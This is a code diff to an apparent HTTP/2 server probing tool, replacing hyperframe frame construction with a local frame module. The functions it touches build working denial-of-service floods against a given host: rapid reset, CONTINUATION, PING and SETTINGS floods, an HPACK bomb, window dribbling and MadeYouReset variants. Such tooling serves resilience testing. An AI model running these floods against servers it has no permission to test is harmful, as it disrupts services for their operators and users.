@@ -19,19 +19,21 @@ import h2.config
 import h2.connection
 import h2.settings
 import hpack
-from hyperframe.frame import (
-    ContinuationFrame,
-    DataFrame,
-    Frame,
-    GoAwayFrame,
-    HeadersFrame,
-    PingFrame,
-    RstStreamFrame,
-    SettingsFrame,
-    WindowUpdateFrame,
-)
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+from .h2wire.frames import (
+    CANCEL,
+    GOAWAY,
+    INITIAL_WINDOW_SIZE,
+    RST_STREAM,
+    FrameDecoder,
+    continuation_frame,
+    data_frame,
+    headers_frame,
+    ping_frame,
+    rst_stream_frame,
+    settings_frame,
+    window_update_frame,
+)
 
 
 @dataclasses.dataclass
@@ -59,7 +61,7 @@ def _request(path: str, host: str) -> list[tuple[bytes, bytes]]:
 
 async def _watch(reader: asyncio.StreamReader, result: ProbeResult) -> None:
     """Read (and parse) whatever the server sends until it closes the connection."""
-    buffer = bytearray()
+    decoder = FrameDecoder()
     try:
         while True:
             data = await reader.read(65536)
@@ -67,16 +69,10 @@ async def _watch(reader: asyncio.StreamReader, result: ProbeResult) -> None:
                 result.closed_by_server = True
                 return
             result.bytes_received += len(data)
-            buffer += data
-            while len(buffer) >= 9:
-                frame, length = Frame.parse_frame_header(memoryview(bytes(buffer[:9])))
-                if len(buffer) < 9 + length:
-                    break
-                frame.parse_body(memoryview(bytes(buffer[9 : 9 + length])))
-                del buffer[: 9 + length]
-                if isinstance(frame, GoAwayFrame):
+            for frame in decoder.feed(data):
+                if frame.type == GOAWAY:
                     result.goaway_code = frame.error_code
-                elif isinstance(frame, RstStreamFrame):
+                elif frame.type == RST_STREAM:
                     result.resets_received += 1
     except (ConnectionError, OSError):
         result.closed_by_server = True
@@ -133,13 +129,12 @@ def _stream_pairs(encoded: bytes, end_stream: bool, follow: Callable[[int], byte
     """Batches of ``count`` new streams: HEADERS with the block ``encoded``, then
     ``follow(stream_id)``, on streams 1, 3, 5, ..."""
     stream_id = 1
-    flags = ["END_HEADERS", "END_STREAM"] if end_stream else ["END_HEADERS"]
 
     def batch() -> bytes:
         nonlocal stream_id
         out = bytearray()
         for _ in range(count):
-            out += HeadersFrame(stream_id, encoded, flags=flags).serialize()
+            out += headers_frame(stream_id, encoded, end_stream=end_stream)
             out += follow(stream_id)
             stream_id += 2
         return bytes(out)
@@ -152,18 +147,18 @@ async def rapid_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
     conn = _client()
     first = _handshake(conn)
     encoded = bytes(conn.encoder.encode(_request("/", host)))
-    batch = _stream_pairs(encoded, True, lambda stream_id: RstStreamFrame(stream_id, 0x8).serialize(), 500)
+    batch = _stream_pairs(encoded, True, lambda stream_id: rst_stream_frame(stream_id, CANCEL), 500)
     return await _flood("rapid reset", host, port, first, batch, limit)
 
 
 async def ping_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
     first = _handshake(_client())
-    return await _flood("PING flood", host, port, first, PingFrame(0, b"floodfld").serialize() * 2000, limit)
+    return await _flood("PING flood", host, port, first, ping_frame(b"floodfld") * 2000, limit)
 
 
 async def settings_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
     first = _handshake(_client())
-    frame = SettingsFrame(0, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize()
+    frame = settings_frame((INITIAL_WINDOW_SIZE, 65535))
     return await _flood("SETTINGS flood", host, port, first, frame * 2000, limit)
 
 
@@ -171,15 +166,15 @@ async def empty_data_flood(host: str, port: int, limit: float = 10.0) -> ProbeRe
     conn = _client()
     first = _handshake(conn)
     request = [(b":method", b"POST"), *_request("/", host)[1:]]
-    first += HeadersFrame(1, bytes(conn.encoder.encode(request)), flags=["END_HEADERS"]).serialize()
-    return await _flood("empty DATA flood", host, port, first, DataFrame(1, b"").serialize() * 2000, limit)
+    first += headers_frame(1, bytes(conn.encoder.encode(request)), end_stream=False)
+    return await _flood("empty DATA flood", host, port, first, data_frame(1, b"") * 2000, limit)
 
 
 async def continuation_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
     conn = _client()
     first = _handshake(conn)
-    first += HeadersFrame(1, bytes(conn.encoder.encode(_request("/", host)))).serialize()  # no END_HEADERS
-    return await _flood("CONTINUATION flood", host, port, first, ContinuationFrame(1, b"a" * 4096).serialize(), limit)
+    first += headers_frame(1, bytes(conn.encoder.encode(_request("/", host))), end_stream=False, end_headers=False)
+    return await _flood("CONTINUATION flood", host, port, first, continuation_frame(1, b"a" * 4096, end_headers=False), limit)
 
 
 async def hpack_bomb(host: str, port: int, limit: float = 10.0) -> ProbeResult:
@@ -188,7 +183,7 @@ async def hpack_bomb(host: str, port: int, limit: float = 10.0) -> ProbeResult:
     block = bytes(conn.encoder.encode(_request("/", host)))
     block += bytes(conn.encoder.encode([(b"x-bomb", b"b" * 4000)]))
     block += b"\xbe" * 8000  # index 62 (the bomb field) again and again
-    frame = HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+    frame = headers_frame(1, block)
     return await _flood("HPACK bomb", host, port, first + frame, b"", limit)
 
 
@@ -211,7 +206,7 @@ async def header_heavy(host: str, port: int, limit: float = 10.0, per_write: int
         out = bytearray()
         for _ in range(per_write):
             block = heavy_header_block(conn.encoder, host)
-            out += HeadersFrame(stream_id, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+            out += headers_frame(stream_id, block)
             stream_id += 2
         return bytes(out)
 
@@ -233,7 +228,7 @@ async def window_dribble(
         stream_ids.append(conn.get_next_available_stream_id())
         conn.send_headers(stream_ids[-1], _request(path, host), end_stream=True)
     first = _handshake(conn)
-    updates = b"".join(WindowUpdateFrame(stream_id, 1).serialize() for stream_id in stream_ids) * 10
+    updates = b"".join(window_update_frame(stream_id, 1) for stream_id in stream_ids) * 10
     name = "WINDOW_UPDATE(1) dribble" if initial_window is None else f"WINDOW_UPDATE(1) dribble, initial window {initial_window}"
     window = 65535 if initial_window is None else initial_window
     return await _flood(name, host, port, first, updates, limit, received_first=len(stream_ids) * window * 9 // 10)
@@ -272,7 +267,7 @@ async def made_you_reset(host: str, port: int, limit: float = 10.0) -> ProbeResu
     conn = _client()
     first = _handshake(conn)
     encoded = bytes(conn.encoder.encode([*_request("/", host), (b"content-length", b"0")]))
-    batch = _stream_pairs(encoded, False, lambda stream_id: DataFrame(stream_id, b"x", flags=["END_STREAM"]).serialize(), 50)
+    batch = _stream_pairs(encoded, False, lambda stream_id: data_frame(stream_id, b"x", end_stream=True), 50)
     return await _flood("MadeYouReset (content-length)", host, port, first, batch, limit, pause=0.01)
 
 
@@ -282,7 +277,7 @@ async def window_overflow_reset(host: str, port: int, limit: float = 10.0) -> Pr
     conn = _client()
     first = _handshake(conn)
     encoded = bytes(conn.encoder.encode(_request("/", host)))
-    batch = _stream_pairs(encoded, False, lambda stream_id: WindowUpdateFrame(stream_id, 2**31 - 1).serialize(), 50)
+    batch = _stream_pairs(encoded, False, lambda stream_id: window_update_frame(stream_id, 2**31 - 1), 50)
     return await _flood("MadeYouReset (window overflow)", host, port, first, batch, limit, pause=0.01)
 
 
@@ -292,11 +287,11 @@ async def closed_stream_data(host: str, port: int, limit: float = 10.0) -> Probe
     conn = _client()
     first = _handshake(conn)
     request = [(b":method", b"POST"), *_request("/", host)[1:]]
-    first += HeadersFrame(1, bytes(conn.encoder.encode(request)), flags=["END_HEADERS"]).serialize()
-    first += RstStreamFrame(1, 0x8).serialize()
+    first += headers_frame(1, bytes(conn.encoder.encode(request)), end_stream=False)
+    first += rst_stream_frame(1, CANCEL)
     # One byte each. The server credits DATA on closed streams back to the connection
     # window at once, so nothing but a budget bounds the flood.
-    return await _flood("DATA on a reset stream", host, port, first, DataFrame(1, b"x").serialize() * 2000, limit)
+    return await _flood("DATA on a reset stream", host, port, first, data_frame(1, b"x") * 2000, limit)
 
 
 #: A field inserted into the HPACK dynamic table once, then referenced by index 62.
@@ -315,7 +310,7 @@ def _referencing_requests(conn: h2.connection.H2Connection, host: str, path: str
     again = base + b"\xbe" * _BIG_FIELD_REFERENCES
 
     def frame(stream_id: int) -> bytes:
-        return HeadersFrame(stream_id, first if stream_id == 1 else again, flags=["END_HEADERS"]).serialize()
+        return headers_frame(stream_id, first if stream_id == 1 else again, end_stream=False)
 
     return frame
 
